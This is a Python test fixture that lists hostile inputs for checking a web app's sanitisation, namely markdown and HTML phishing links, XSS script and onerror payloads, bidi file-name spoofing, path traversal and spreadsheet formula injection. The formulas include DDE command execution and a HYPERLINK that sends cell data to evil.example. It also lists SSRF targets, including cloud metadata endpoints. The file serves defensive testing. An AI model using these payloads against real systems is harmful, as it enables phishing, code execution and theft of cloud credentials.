"""The hostile corpus: text a store, Drive, a file name or a model could hand us, and addresses a store or a visitor
could make the server open. Each entry is (id, value); the tests in this folder drive every one of them through the
code that meets it in real life."""

from __future__ import annotations

EVIL = "http://evil.example"

# Text that must come out as the same characters, never as a link, image, emphasis, heading, HTML or a reversed name.
TEXT = [
    ("markdown link", f"[Login here]({EVIL}/phish)"),
    ("markdown image", f"![t]({EVIL}/track.png)"),
    ("reference link", f"[click][1]\n\n[1]: {EVIL}/ref"),
    ("autolink in angle brackets", f"<{EVIL}/angle>"),
    ("bare url", f"Great mug, see {EVIL}/bare for details"),
    ("bare https url", "Deal at https://evil.example/deal today"),
    ("www autolink", "Visit www.evil.example now"),
    ("email autolink", "Write to phisher@evil.example"),
    ("html anchor", f'<a href="{EVIL}/html">Mug</a>'),
    ("html image", f'<img src="{EVIL}/pixel.gif" onerror="alert(1)">'),
    ("script tag", "<script>alert(document.cookie)</script>Mug"),
    ("javascript link", "[Mug](javascript:alert(1))"),
    ("emphasis and heading", "# **Big** _sale_ ~~now~~"),
    ("streamlit colour and icon", ":red[Mug] :material/home: :smile:"),
    ("latex", "$\\frac{1}{0}$ Mug"),
    ("right-to-left override", "Invoice\u202egpj.exe"),
    ("bidi isolates and marks", "\u2066Mug\u2069\u200f\u200e\u061c"),
    ("nul bytes", "Mug\x00\x00 with nul"),
    ("control characters", "Mug\x1b[31mred\x07\x7f"),
    ("10k characters", "Mug " * 2500),
    ("path traversal name", "../../etc/passwd"),
    ("windows path name", "..\\..\\Windows\\System32\\cmd.exe"),
    ("formula cell", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("plus formula", "+cmd|' /C calc'!A0"),
    ("minus formula", "-2+3+cmd|' /C calc'!A0"),
    ("at formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab formula", "\t=1+1"),
    ("carriage return formula", "\r=1+1"),
]

# Names that are also file names (uploads, Drive).
FILE_NAMES = [
    ("markdown file name", f"[Login]({EVIL}).png"),
    ("rtl file name", "photo\u202egnp.exe.png"),
    ("nul file name", "mug\x00.png"),
    ("traversal file name", "../../../../tmp/evil.png"),
]

FORMULAS = [value for key, value in TEXT if "formula" in key]
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"

# Addresses a visitor could type as a "store" to make the server probe its own network.
PRIVATE_STORE_URLS = [
    ("loopback ip", "http://127.0.0.1:{port}"),
    ("loopback short form", "http://127.1:{port}"),
    ("loopback decimal", "http://2130706433:{port}"),
    ("localhost name", "http://localhost:{port}"),
    ("localhost subdomain", "http://shop.localhost:{port}"),
    ("ipv6 loopback", "http://[::1]:{port}"),
    ("ipv4-mapped ipv6", "http://[::ffff:127.0.0.1]:{port}"),
    ("unspecified address", "http://0.0.0.0:{port}"),
    ("private 10/8", "http://10.0.0.5"),
    ("private 192.168/16", "http://192.168.1.1"),
    ("link-local", "http://169.254.10.10"),
    ("aws metadata", "http://169.254.169.254/latest/meta-data"),
    ("gcp metadata name", "http://metadata.google.internal/computeMetadata/v1"),
    ("alibaba metadata", "http://100.100.100.200/latest/meta-data"),
    ("aws ipv6 metadata", "http://[fd00:ec2::254]/latest/meta-data"),
]

NOT_WEB = [
    ("file scheme", "file:///etc/passwd"),
    ("ftp scheme", "ftp://evil.example/x.png"),
    ("gopher scheme", "gopher://127.0.0.1:25/_HELO"),
    ("credentials in url", "http://user:pass@evil.example/x.png"),
]
